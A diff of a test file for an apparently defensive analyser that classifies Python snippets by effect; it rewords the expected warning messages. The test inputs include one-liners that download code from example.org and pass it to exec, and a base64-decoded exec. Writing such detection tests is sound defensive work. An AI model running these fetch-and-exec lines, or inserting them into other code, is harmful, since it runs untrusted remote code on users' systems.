@@ -11,7 +11,7 @@ from safetyd.core.shell.reading import HOLE, Access, Code, Effect, Touch
 from tests.core.shell.code.expected import deleted, found, read, runs, shell, written
 
 NOTHING: Final = Code()
-UNKNOWN_CODE: Final = (Effect.UNKNOWN, "evaluates code that is only known at run time")
+UNKNOWN_CODE: Final = (Effect.UNKNOWN, "evaluates text that is only known at run time")
 HIDDEN: Final = (Effect.UNKNOWN, "calls a function whose name is only known at run time")
 INSIDE: Final = (Effect.UNKNOWN, "uses Python internals to access hidden objects")
 UNREADABLE: Final = (Effect.UNKNOWN, "cannot be analysed: it is not valid Python")
@@ -257,11 +257,11 @@ EFFECTS: Final = [
     ),
     (
         "import requests; exec(requests.get('https://example.org/x').text)",
-        found((Effect.UNKNOWN, "runs code that it downloads")),
+        found((Effect.UNKNOWN, "downloads and runs other code")),
     ),
     (
         "from urllib.request import urlopen as u\nc = u('https://example.org').read()\nexec(c)",
-        found((Effect.UNKNOWN, "runs code that it downloads")),
+        found((Effect.UNKNOWN, "downloads and runs other code")),
     ),
     ("import base64; exec(base64.b64decode('cHJpbnQoMSk='))", found(UNKNOWN_CODE)),
     ("list(map(eval, texts))", found(UNKNOWN_CODE)),
